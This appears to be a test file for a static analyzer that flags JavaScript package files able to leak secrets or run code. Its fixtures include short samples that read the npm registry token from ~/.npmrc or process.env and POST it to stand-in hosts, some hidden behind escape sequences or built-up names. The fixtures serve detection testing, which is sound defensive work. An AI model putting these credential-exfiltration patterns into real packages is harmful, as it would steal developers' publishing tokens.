import { describe, expect, it } from "vitest";
import { decodeEscapes, irrelevantFiles } from "../../../src/analyzers/js/relevance.js";
import { analyze, flowSummary, signatures } from "./helpers.js";

function classify(sources: Record<string, string>): string[] {
  const files = new Map(Object.entries(sources).map(([k, v]) => [k, Buffer.from(v)]));
  return [...irrelevantFiles(files, Object.keys(sources), signatures(), "pkg")].sort();
}

describe("which files can produce facts", () => {
  it("files naming no source, sink, eval, decoder, URL or active module are irrelevant; their importers only if all imports are", () => {
    const irrelevant = classify({
      "data.js": "module.exports = { a: [1, 2, 3], b: 'text' };",
      "math.js": "const data = require('./data'); exports.sum = (xs) => xs.reduce((a, b) => a + b, 0) + data.a.length;",
      "env.js": "exports.debug = process.env.DEBUG === '1' && process.platform !== 'win32';",
      "secret.js": "exports.t = process.env.NPM_TOKEN;",
      "net.js": "const https = require('node:https'); exports.get = (u) => https.get(u);",
      "wire.js": "const net = require('./net'); net.get(require('./math').sum([]));",
      "self.js": "exports.x = require('pkg/lib/wire');",
      "lib/wire.js": "module.exports = require('../secret.js');",
      "url.js": "exports.u = 'https://example.invalid/';",
      "comment.js": "// see https://example.invalid/docs\nexports.k = 1;",
      "dyn.js": "exports.load = (n) => require(n);",
      "esm.mjs": "import { join } from 'node:path'; export const p = join('a', 'b');",
      "esm2.mjs": "import { spawn } from 'child_process'; export { spawn };",
      "fn.js": "exports.f = Function('return this');",
      "g.js": "exports.g = globalThis['fe' + 'tch'];",
      "dec.js": "exports.d = Buffer.from('aGk=', 'base64');",
    });
    expect(irrelevant).toEqual(["comment.js", "data.js", "env.js", "esm.mjs", "math.js"]);
  });

  it("escapes are read the way JavaScript reads them: one that spells an active name or URL makes its file active, others do not", () => {
    const irrelevant = classify({
      "regex.js": String.raw`exports.re = /[\x00-\x1f\u2028\u{1F600}]/u; exports.s = "caf\u00e9 \x41\n";`,
      "ident.js": String.raw`exports.t = \u0070rocess.env.NPM_TOKEN;`,
      "code.js": String.raw`exports.t = pro\u{63}ess['env'];`,
      "url.js": String.raw`exports.u = "\x68ttps\x3a\x2f/example.invalid/";`,
      "octal.js": String.raw`exports.u = "\150ttps\072//example.invalid/";`,
      "spec.js": String.raw`exports.h = require("htt\ps");`,
      "kept.js": String.raw`exports.s = "\\x70rocess.env.NPM_TOKEN";`,
      "zeros.js": String.raw`exports.h = require("\u{0000000068}ttps");`,
      "continued.js": 'exports.f = require("f\\\ns");',
    });
    expect(irrelevant).toEqual(["kept.js", "regex.js"]);
    expect(decodeEscapes(String.raw`a\x41\u0042\u{43}\104\e\\x41`)).toBe(String.raw`aABCDe\x41`);
    expect(decodeEscapes("\\u{00000000041}b\\\r\nc\\\u2028d")).toBe("Abcd");
    expect(decodeEscapes("no escapes")).toBeUndefined();
  });

  it("a timer is active unless its first argument is a function written out, or it is named in prose", () => {
    const irrelevant = classify({
      "arrow.js": "exports.a = () => setTimeout(() => { exports.n = 0; }, 10);",
      "async.js": "exports.a = () => setInterval(async (x) => x, 10);",
      "fn.js": "exports.a = (cb) => setImmediate(function () { cb(); });",
      "param.js": "exports.a = (w) => setTimeout(w => w, 1);",
      "prose.js": "// setTimeout delays above 2^31-1 overflow\nexports.max = 2 ** 31 - 1;",
      "string.js": "exports.a = (c) => setTimeout(c, 10);",
      "literal.js": "setTimeout('exports.x = 1', 10);",
      "alias.js": "const later = setTimeout;\nlater('exports.x = 1');",
      "call.js": "setTimeout.call(null, 'exports.x = 1');",
      "asi.js": "const t = setTimeout\nt('exports.x = 1');",
      "export.mjs": "export { setTimeout as later };",
      "cast.ts": "(setTimeout satisfies Function)('exports.x = 1', 1);",
      "escaped.js": String.raw`set\u0054imeout('exports.x = 1', 1);`,
    });
    expect(irrelevant).toEqual(["arrow.js", "async.js", "fn.js", "param.js", "prose.js"]);
  });

  it("an unreached file that only wires a reader to a sender is still analysed", async () => {
    const facts = await analyze({
      "index.js": "module.exports = 1;",
      "lib/wire.js": "const r = require('./read'); const s = require('./send');\ns.send(r.read());",
      "lib/read.js": "exports.read = () => require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');",
      "lib/send.js": "exports.send = (d) => require('https').request({ hostname: 'w.example.invalid', method: 'POST' }).end(d);",
    });
    expect(flowSummary(facts)).toEqual(["registry-token -> http https://w.example.invalid @lib/send.js:1 (manual)"]);
  });

  it("an irrelevant helper required by a relevant file still folds destinations; an irrelevant broken file is still reported", async () => {
    const facts = await analyze({
      "index.js": "const { host } = require('./host');\nfetch('https://' + host() + '/x', { method: 'POST', body: process.env.NPM_TOKEN });",
      "host.js": "exports.host = () => ['fold', 'example', 'invalid'].join('.');",
      "unused/broken.js": "if (",
      "unused/fine.js": "exports.v = [1, 2].map((x) => x * 2);",
    });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://fold.example.invalid/x @index.js:2 (import)"]);
    expect(facts.parseProblems.map((p) => p.file)).toEqual(["unused/broken.js"]);
    expect(facts.filesAnalyzed).toBe(3);
  });
});
